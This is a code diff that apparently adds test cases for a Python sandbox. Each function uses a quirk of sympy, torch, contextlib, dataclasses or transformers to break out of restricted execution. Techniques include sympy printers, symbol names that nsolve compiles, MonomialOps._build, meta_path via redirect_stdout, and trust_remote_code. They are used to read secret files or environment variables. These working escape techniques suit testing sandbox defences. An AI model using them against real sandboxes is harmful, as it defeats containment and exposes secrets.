@@ -384,3 +384,164 @@ def prunes_a_class(secret_file: str) -> object:
         prune.Identity.apply(Module, "__subclasses__")
     [loader] = [kind for kind in found[0](object) if kind.__name__ == "FileLoader"]
     return loader("notes", secret_file).get_data(secret_file)
+
+
+# Texts that libraries take for names and for code
+
+
+def formats_with_a_printer(variable: str) -> object:
+    """a printer of sympy's that names `format` as the method by which a text prints itself"""
+    import torch
+    from sympy.printing.str import StrPrinter
+
+    class Printer(StrPrinter):
+        printmethod = "format"
+        given = torch.unique
+
+    return Printer().doprint("{0.given.__globals__[sys].modules[os].environ}")
+
+
+def reads_with_a_printer(secret_file: str) -> object:
+    """a printer of sympy's that is a text, and names what gets attributes as its method"""
+    import torch
+    from sympy.printing.str import StrPrinter
+
+    class Printer(str, StrPrinter):
+        printmethod = "__getattribute__"
+
+        def __init__(self, name: str) -> None:
+            StrPrinter.__init__(self)
+            self._str = lambda value: value
+
+    return Printer("__globals__").doprint(torch.einsum)["__builtins__"]["open"](secret_file).read()
+
+
+def reads_with_a_computed_printer(secret_file: str) -> object:
+    """the same, of a printer that names another method each time that it is asked"""
+    import torch
+    from sympy.printing.str import StrPrinter
+
+    names = iter(["_latex"] + ["__getattribute__"] * 10)
+
+    class Printer(str, StrPrinter):
+        @property
+        def printmethod(self) -> str:
+            return next(names)
+
+        def __init__(self, name: str) -> None:
+            StrPrinter.__init__(self)
+            self._str = lambda value: value
+
+    next(names)
+    return Printer("__globals__").doprint(torch.einsum)["__builtins__"]["open"](secret_file).read()
+
+
+def names_a_symbol(secret_file: str) -> object:
+    """a symbol of sympy's whose name is code, in an equation that nsolve compiles"""
+    import contextlib
+
+    import sympy
+
+    x = sympy.Symbol("x")
+    code = sympy.Symbol(f"print(__import__('io').open({secret_file!r}).read())")
+    with contextlib.suppress(TypeError):
+        sympy.nsolve([x - code], [x], [1])
+
+
+def names_a_function(secret_file: str) -> object:
+    """a function of sympy's whose name is code, in an equation that nsolve compiles"""
+    import contextlib
+
+    import sympy
+
+    x = sympy.Symbol("x")
+    code = sympy.Function(f"print(__import__('io').open({secret_file!r}).read()) or float")
+    with contextlib.suppress(TypeError, ValueError):
+        sympy.nsolve(code(x), x, 1)
+
+
+def builds_operations(secret_file: str) -> object:
+    """a class below sympy's MonomialOps, which has its method that runs text"""
+    from sympy.polys.monomials import MonomialOps
+
+    class Operations(MonomialOps): ...
+
+    return Operations(1)._build(f"found = open({secret_file!r}).read()", "found")
+
+
+def redirects_more_than_a_stream(secret_file: str) -> object:
+    """a class below contextlib's redirect_stdout that names another attribute of sys"""
+    import contextlib
+
+    class Redirection(contextlib.redirect_stdout):
+        _stream = "meta_path"
+
+    redirection = Redirection([])
+    redirection.__enter__()
+    finders = list(redirection._old_targets[0])
+    redirection.__exit__(None, None, None)
+    [finder] = [each for each in finders if getattr(each, "__name__", "") == "PathFinder"]
+    return finder.find_spec("textwrap").loader.get_data(secret_file)
+
+
+def compares_fields(secret_file: str) -> object:
+    """a dataclass with a field `__globals__`, compared with a function of torch's"""
+    from dataclasses import dataclass
+
+    import torch
+
+    found: list[Any] = []
+
+    class Catcher:
+        def __eq__(self, other: object) -> bool:
+            found.append(other)
+            return True
+
+    names = {"dataclass": dataclass, "kind": type(torch.einsum)}
+    fields = "    __class__ = kind\n    __globals__: object = None"
+    exec(f"@dataclass\nclass Reader:\n{fields}", names)
+    Reader = names["Reader"]  # noqa: N806
+    Reader.__eq__(Reader(Catcher()), torch.einsum)
+    return found[0]["__builtins__"]["open"](secret_file).read()
+
+
+def takes_a_metaclass_for_a_token(secret_file: str) -> object:
+    """a method of sympy's code tokens, which gets the attributes that its object names"""
+    from sympy.codegen.ast import Token
+
+    class Meta(type):
+        _fields = ("__subclasses__",)
+
+    kinds = Token.kwargs(Meta)["__subclasses__"]
+    [loader] = [kind for kind in kinds(object) if kind.__name__ == "FileLoader"]
+    return loader("notes", secret_file).get_data(secret_file)
+
+
+def calls_a_reciprocal(secret_file: str) -> object:
+    """a class below one of sympy's, which has its method that calls others by name"""
+    import torch
+    from sympy.functions.elementary.trigonometric import ReciprocalTrigonometricFunction
+
+    class Call(ReciprocalTrigonometricFunction):
+        @classmethod
+        def eval(cls, arg: object) -> None:
+            return None
+
+        def _reciprocal_of(self, _: object = None) -> object:
+            return torch.einsum
+
+    found = Call(1)._call_reciprocal("__getattribute__", "__globals__")
+    return [*found["__builtins__"]["open"](secret_file)]
+
+
+# What a library loads: code, and files that it opens without Python
+
+
+def generates_with_a_folder(model: Any, code_folder: str) -> object:
+    """generate with a folder of code, which transformers runs if it is told to trust it"""
+    return model.generate("a", custom_generate=code_folder, trust_remote_code=True)
+
+
+def loads_a_tokenizer(model: Any, secret_tokenizer: str) -> object:
+    """the class of the model's tokenizer, called with the file of another"""
+    return list(type(model.tokenizer)(tokenizer_file=secret_tokenizer).get_vocab())
